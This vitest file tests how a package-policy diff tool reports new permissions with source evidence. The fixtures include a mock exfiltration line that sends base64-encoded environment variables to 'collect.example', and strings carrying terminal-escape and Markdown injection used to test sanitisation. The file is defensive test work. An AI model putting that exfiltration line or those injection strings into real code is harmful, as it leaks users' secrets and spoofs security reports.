import { describe, expect, test } from "vitest";
import { type CanonicalName, type Policy, makeRecord, parseOverride } from "@bulkhead/core";
import { diffPolicies } from "../../src/diff/diff-policies.ts";
import { formatDiff } from "../../src/diff/format-diff.ts";
import { colourPaint } from "../../src/diff/paint.ts";
import { excerpt } from "../../src/diff/source-excerpt.ts";
import type { Evidence, EvidencePlace, ResourceEvidence } from "../../src/evidence.ts";

const policyOf = (resources: object, rest: object = { evaluators: "listed" }): Policy =>
  parseOverride(JSON.stringify({ ...rest, resources }), "policy.json");

const place = (
  file: string,
  line: number,
  column: number,
  lineText: string,
  use = "read",
): EvidencePlace => ({
  file,
  line,
  column,
  lineText,
  use,
});

const evidenceOf = (resources: Record<string, Partial<ResourceEvidence>>): Evidence => ({
  schemaVersion: 1,
  resources: makeRecord(
    Object.entries(resources).map(([name, found]) => [
      name as CanonicalName,
      {
        version: "1.0.0",
        globals: {},
        builtin: {},
        packages: {},
        eval: [],
        exports: [],
        hazards: [],
        overrides: [],
        ...found,
      },
    ]),
  ),
});

const BASE = policyOf({
  "chalk>color-convert": { globals: { "process.env.NODE_ENV": true } },
  chalk: { packages: { "chalk>color-convert": true } },
  lodash: { builtin: { fs: true }, globals: { setTimeout: true } },
  "old>moved": { globals: { performance: true } },
  "left-pad": { globals: { console: true } },
});

const HEAD = policyOf({
  "chalk>color-convert": {
    globals: { fetch: true, localStorage: true, "process.env": true, "location.href": "write" },
    builtin: { "fs.readFile": true },
    packages: { "chalk>ansi-styles": true },
    eval: true,
    native: true,
  },
  "chalk>ansi-styles": {},
  chalk: { packages: { "chalk>color-convert": true } },
  lodash: { builtin: { "fs.readFile": true, "fs.stat": true } },
  moved: { globals: { performance: true } },
  "new-one": { globals: { crypto: true } },
});

const FILE = "node_modules/color-convert/index.js";
const EVIDENCE = evidenceOf({
  "chalk>color-convert": {
    version: "2.0.1",
    globals: {
      fetch: [
        place(
          FILE,
          14,
          10,
          '\tif (ok) fetch("https://collect.example/" + btoa(JSON.stringify(process.env)), { mode: "no-cors" });',
          "call",
        ),
        place(FILE, 90, 2, "  fetch(x)", "call"),
        place(FILE, 91, 2, "  fetch(y)", "call"),
      ],
      localStorage: [place(FILE, 12, 16, "  const token = localStorage.token;")],
      "process.env": [place(FILE, 13, 40, `  const environment = Object.assign({}, process.env);`)],
      "location.href": [
        place(FILE, 20, 0, "location.href", "read"),
        place(FILE, 21, 0, "location.href = x", "write"),
      ],
    },
    builtin: { "fs.readFile": [place(FILE, 1, 6, 'const { readFile } = require("fs");')] },
    packages: {
      "chalk>ansi-styles": [place(FILE, 2, 0, 'import styles from "ansi-styles";', "import")],
    },
    eval: [place(FILE, 40, 0, 'new Function("return this")()')],
  },
});

const DIFF = diffPolicies(BASE, HEAD);

test("pretty, with evidence", () => {
  expect(formatDiff(DIFF, { format: "pretty", evidence: EVIDENCE })).toMatchInlineSnapshot(`
    "8 new powers (3 critical, 4 high and 1 medium) and 1 new import in 2 packages

    chalk>color-convert 2.0.1
      critical  native addons
                native code: loads native addons, which nothing confines
      critical  fetch (global)
                network: sends and receives data, to and from anywhere
                node_modules/color-convert/index.js:14:11
                  14 | if (ok) fetch("https://collect.example/" + btoa(JSON.stringi…
                     |         ^^^^^
                and 2 more places
      critical  process.env (global)
                process & environment: reads every environment variable, secrets too
                before only process.env.NODE_ENV
                node_modules/color-convert/index.js:13:41
                  13 | const environment = Object.assign({}, process.env);
                     |                                       ^^^^^^^^^^^
      high      evaluating text
                code execution: runs text as code, confined, but unseen by any
                review
                node_modules/color-convert/index.js:40:1
                  40 | new Function("return this")()
                     | ^
      high      fs.readFile (builtin module)
                file system: reads every file of the user
                node_modules/color-convert/index.js:1:7
                  1 | const { readFile } = require("fs");
                    |         ^^^^^^^^
      high      localStorage (global)
                storage: reads and writes what the application stored
                node_modules/color-convert/index.js:12:17
                  12 | const token = localStorage.token;
                     |               ^^^^^^^^^^^^
      high      location.href (global, to read and write)
                navigation: reads the page's address, tokens in it too; may assign
                it, for everybody
                node_modules/color-convert/index.js:21:1
                  21 | location.href = x
                     | ^^^^^^^^^^^^^
                and 1 more place
      imports   chalk>ansi-styles
                node_modules/color-convert/index.js:2:1
                  2 | import styles from "ansi-styles";
                    |                     ^^^^^^^^^^^

    new-one, new in the policy
      medium    crypto (global)
                crypto: makes and uses keys
                no code is known to ask for this; an override grants it

    Without new powers
      new       chalk>ansi-styles, without powers
      gone      left-pad
      narrows   lodash: fs -> fs.readFile, fs.stat
      loses     lodash: setTimeout
      moves     old>moved is now moved
    "
  `);
});

test("pretty, without evidence", () => {
  expect(formatDiff(DIFF, { format: "pretty" })).toMatchInlineSnapshot(`
    "8 new powers (3 critical, 4 high and 1 medium) and 1 new import in 2 packages

    chalk>color-convert
      critical  native addons
                native code: loads native addons, which nothing confines
      critical  fetch (global)
                network: sends and receives data, to and from anywhere
      critical  process.env (global)
                process & environment: reads every environment variable, secrets too
                before only process.env.NODE_ENV
      high      evaluating text
                code execution: runs text as code, confined, but unseen by any
                review
      high      fs.readFile (builtin module)
                file system: reads every file of the user
      high      localStorage (global)
                storage: reads and writes what the application stored
      high      location.href (global, to read and write)
                navigation: reads the page's address, tokens in it too; may assign
                it, for everybody
      imports   chalk>ansi-styles

    new-one, new in the policy
      medium    crypto (global)
                crypto: makes and uses keys

    Without new powers
      new       chalk>ansi-styles, without powers
      gone      left-pad
      narrows   lodash: fs -> fs.readFile, fs.stat
      loses     lodash: setTimeout
      moves     old>moved is now moved
    "
  `);
});

test("markdown", () => {
  expect(formatDiff(DIFF, { format: "markdown", evidence: EVIDENCE })).toMatchInlineSnapshot(`
    "## Policy: 8 new powers (3 critical, 4 high and 1 medium) and 1 new import in 2 packages

    ### \`chalk>color-convert\` \`2.0.1\`

    - **critical** \`native addons\`: native code: loads native addons, which nothing confines
    - **critical** \`fetch\` (global): network: sends and receives data, to and from anywhere
      \`node_modules/color-convert/index.js:14:11\` and 2 more places

      \`\`\`js
      if (ok) fetch("https://collect.example/" + btoa(JSON.stringify(process.env)), { mode: "no-cors" });
      \`\`\`
    - **critical** \`process.env\` (global): process & environment: reads every environment variable, secrets too
      (before only \`process.env.NODE_ENV\`)
      \`node_modules/color-convert/index.js:13:41\`

      \`\`\`js
      const environment = Object.assign({}, process.env);
      \`\`\`
    - **high** \`evaluating text\`: code execution: runs text as code, confined, but unseen by any review
      \`node_modules/color-convert/index.js:40:1\`

      \`\`\`js
      new Function("return this")()
      \`\`\`
    - **high** \`fs.readFile\` (builtin module): file system: reads every file of the user
      \`node_modules/color-convert/index.js:1:7\`

      \`\`\`js
      const { readFile } = require("fs");
      \`\`\`
    - **high** \`localStorage\` (global): storage: reads and writes what the application stored
      \`node_modules/color-convert/index.js:12:17\`

      \`\`\`js
      const token = localStorage.token;
      \`\`\`
    - **high** \`location.href\` (global, to read and write): navigation: reads the page's address, tokens in it too; may assign it, for everybody
      \`node_modules/color-convert/index.js:21:1\` and 1 more place

      \`\`\`js
      location.href = x
      \`\`\`
    - imports \`chalk>ansi-styles\`
      \`node_modules/color-convert/index.js:2:1\`

      \`\`\`js
      import styles from "ansi-styles";
      \`\`\`

    ### \`new-one\` (new in the policy)

    - medium \`crypto\` (global): crypto: makes and uses keys
      no code is known to ask for this; an override grants it

    ### Without new powers

    - \`chalk>ansi-styles\` is new, without powers
    - \`left-pad\` is gone
    - \`lodash\` has only \`fs.readFile\`, \`fs.stat\` of \`fs\`
    - \`lodash\` loses \`setTimeout\`
    - \`old>moved\` is now \`moved\`
    "
  `);
});

test("json", () => {
  const small = diffPolicies(
    policyOf({ a: { builtin: { "fs.stat": true } } }),
    policyOf({ a: { builtin: { fs: true } } }),
  );
  const evidence = evidenceOf({
    a: { builtin: { fs: [place("node_modules/a/x.js", 1, 0, 'require("fs")')] } },
  });
  expect(formatDiff(small, { format: "json", evidence })).toMatchInlineSnapshot(`
    "{
      "addsPower": true,
      "hasEvidence": true,
      "newPowers": {
        "critical": 1,
        "high": 0,
        "low": 0,
        "medium": 0
      },
      "packages": [
        {
          "hazards": [],
          "lostImports": [],
          "lostPowers": [],
          "name": "a",
          "newImports": [],
          "newPowers": [
            {
              "category": "file system",
              "gives": "reads and writes every file of the user",
              "had": [
                {
                  "mayWrite": false,
                  "path": "fs.stat"
                }
              ],
              "kind": "builtin",
              "mayWrite": false,
              "path": "fs",
              "places": [
                {
                  "column": 0,
                  "file": "node_modules/a/x.js",
                  "line": 1,
                  "lineText": "require(\\"fs\\")",
                  "use": "read"
                }
              ],
              "severity": "critical"
            }
          ],
          "status": "changed",
          "version": "1.0.0"
        }
      ],
      "schemaVersion": 1,
      "settings": []
    }
    "
  `);
});

test("nothing changed", () => {
  const diff = diffPolicies(BASE, BASE);
  expect(formatDiff(diff, { format: "pretty" })).toBe("No change in meaning\n");
  expect(formatDiff(diff, { format: "markdown" })).toBe("## Policy: No change in meaning\n");
  expect(JSON.parse(formatDiff(diff, { format: "json" }))).toMatchObject({
    schemaVersion: 1,
    addsPower: false,
    packages: [],
  });
});

const HAZARDOUS = evidenceOf({
  quiet: {
    hazards: [
      {
        kind: "obfuscated",
        severity: "critical",
        detail: "names without meaning",
        places: [place("node_modules/quiet/index.js", 1, 4, "var _0x1a2b = 1;", "read")],
      },
      { kind: "sloppy-syntax", severity: "low", places: [] },
    ],
  },
});

test("a new package shows its hazards, even without powers", () => {
  const diff = diffPolicies(policyOf({}), policyOf({ quiet: { packages: {} } }));
  expect(formatDiff(diff, { format: "pretty", evidence: HAZARDOUS })).toMatchInlineSnapshot(`
    "No new powers

    quiet 1.0.0, new in the policy
      critical  obfuscated
                it is written to be unreadable (names without meaning)
                node_modules/quiet/index.js:1:5
                  1 | var _0x1a2b = 1;
                    |     ^
    "
  `);
  expect(formatDiff(diff, { format: "markdown", evidence: HAZARDOUS })).toMatchInlineSnapshot(`
    "## Policy: No new powers

    ### \`quiet\` \`1.0.0\` (new in the policy)

    - **critical** \`obfuscated\`: it \`is written to be unreadable (names without meaning)\`
      \`node_modules/quiet/index.js:1:5\`

      \`\`\`js
      var _0x1a2b = 1;
      \`\`\`
    "
  `);
});

test("only settings changed", () => {
  const diff = diffPolicies(policyOf({}), policyOf({}, {}));
  expect(formatDiff(diff, { format: "pretty" })).toMatchInlineSnapshot(`
    "1 weaker setting

      evaluators: listed -> nothing: every package may evaluate text now
    "
  `);
  expect(formatDiff(diff, { format: "markdown" })).toMatchInlineSnapshot(`
    "## Policy: 1 weaker setting

    - **weaker** \`evaluators: listed -> nothing: every package may evaluate text now\`
    "
  `);
});

test("only less", () => {
  const diff = diffPolicies(policyOf({ a: { globals: { fetch: true } } }), policyOf({ a: {} }));
  expect(formatDiff(diff, { format: "pretty" })).toMatchInlineSnapshot(`
    "No new powers

    Without new powers
      loses     a: fetch
    "
  `);
});

describe("hostile text", () => {
  const HOSTILE = "a\u001b[2Kb\nc`d```e\u202ef|g<img src=x>@everyone";
  const head = policyOf({ evil: { globals: { [HOSTILE.replace(/[./]/g, "")]: true } } });
  const evidence = evidenceOf({
    evil: {
      version: "1\u001b]0;owned\u0007",
      globals: {
        [HOSTILE]: [
          place(
            `node_modules/evil/\u001b[31m\`x.js`,
            1,
            3,
            `\u001b[2J\`\`\`\n# Approved @octocat ![](https://x.example/)`,
          ),
        ],
      },
    },
  });
  const diff = diffPolicies(policyOf({}), head);

  test.each(["pretty", "markdown", "json"] as const)(
    "leaves no control character in %s",
    (format) => {
      const text = formatDiff(diff, { format, evidence });
      // oxlint-disable-next-line no-control-regex -- control characters are what this is about
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    },
  );

  test("stays inside its code in Markdown", () => {
    expect(formatDiff(diff, { format: "markdown", evidence })).toMatchInlineSnapshot(`
      "## Policy: 1 new power (medium) in 1 package

      ### \`evil\` \`1\\x1b]0;owned\\x07\` (new in the policy)

      - medium \`a\\x1b[2Kb\\x0ac'd'''e\\u{202e}f|g<img src=x>@everyone\` (global): unknown: reaches a global that Bulkhead does not know
        \`node_modules/evil/\\x1b[31m'x.js:1:4\`

        \`\`\`\`js
        \\x1b[2J\`\`\`\\x0a# Approved @octocat ![](https://x.example/)
        \`\`\`\`
      "
    `);
  });
});

test("no line of the pretty format is longer than 80 columns, however long the source's is", () => {
  const path = "fetch";
  const lines = [0, 3, 40, 79, 500, 9_000].map(
    (column) => `${"x=1;".repeat(3000).slice(0, column)};fetch(\u001b)${";y()".repeat(3000)}`,
  );
  const evidence = evidenceOf({
    a: {
      globals: {
        fetch: lines.map((line, index) => place("a.js", index, line.indexOf(path), line)),
      },
    },
  });
  for (const found of evidence.resources["a" as CanonicalName]?.globals["fetch"] ?? []) {
    const one = evidenceOf({ a: { globals: { fetch: [found] } } });
    const text = formatDiff(
      diffPolicies(policyOf({}), policyOf({ a: { globals: { fetch: true } } })),
      { format: "pretty", evidence: one },
    );
    expect(Math.max(...text.split("\n").map(({ length }) => length))).toBeLessThanOrEqual(80);
    const rows = text.split("\n");
    const mark = rows.findIndex((row) => row.includes("^"));
    expect(rows[mark - 1]?.slice(rows[mark]?.indexOf("^"))).toMatch(/^fetch\(\\x1b\)/);
    expect(rows[mark]?.trim()).toMatch(/^\| +\^{5}$/);
  }
});

describe("excerpt", () => {
  test.each([
    ["the whole path", "a = process.env.HOME", 4, "process.env", "a = process.env.HOME", 4, 11],
    ["the first name of it", "a = process[x]", 4, "process.env", "a = process[x]", 4, 7],
    ["indented", "      fetch(x)", 6, "fetch", "fetch(x)", 0, 5],
    ["after tabs", "\t\tx = fetch(x)", 6, "fetch", "x = fetch(x)", 4, 5],
    ["a column that counts from elsewhere", "…;fetch(x);…", 4_000, "fetch", "…;fetch(x);…", 2, 5],
    ["the nearest of several", "fetch;fetch;fetch", 6, "fetch", "fetch;fetch;fetch", 6, 5],
    ["a name that is not there", "a = b.c", 4, "fetch", "a = b.c", 4, 1],
    ["nothing to mark", "a = b.c", 400, "fetch", "a = b.c", undefined, undefined],
    ["an empty line", "", 0, "fetch", "", undefined, undefined],
    ["escapes before it", "\u001b fetch", 2, "fetch", "\\x1b fetch", 5, 5],
  ])("%s", (_name, lineText, column, path, text, start, length) => {
    expect(excerpt(place("f", 1, column, lineText), path, 60)).toEqual({
      text,
      mark: start === undefined ? undefined : { start, length },
    });
  });
});

test("colours are around printable text only, and do not change it", () => {
  const plain = formatDiff(DIFF, { format: "pretty", evidence: EVIDENCE });
  const coloured = formatDiff(DIFF, { format: "pretty", evidence: EVIDENCE, paint: colourPaint });
  expect(coloured).not.toBe(plain);
  // oxlint-disable-next-line no-control-regex -- the colours
  expect(coloured.replace(/\u001b\[[\d;]*m/g, "")).toBe(plain);
});
